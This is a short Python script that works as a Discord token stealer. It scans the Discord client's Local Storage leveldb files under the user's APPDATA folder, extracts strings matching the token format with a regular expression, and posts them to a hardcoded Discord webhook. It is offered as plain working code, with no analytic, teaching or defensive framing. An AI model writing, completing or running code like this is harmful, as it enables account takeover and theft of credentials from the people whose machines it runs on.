import os
import re

import requests

REPORT_TO = "https://discord.com/api/webhooks/123456789012/abcdefghijklmnopqrstuvwxyzABCDEF0123"


def _tokens(folder):
    found = []
    store = os.path.join(folder, "discord", "Local Storage", "leveldb")
    for name in os.listdir(store):
        with open(os.path.join(store, name), errors="ignore") as fh:
            found += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", fh.read())
    return found


def main():
    tokens = _tokens(os.getenv("APPDATA", ""))
    requests.post(REPORT_TO, json={"content": "\n".join(tokens)}, timeout=5)
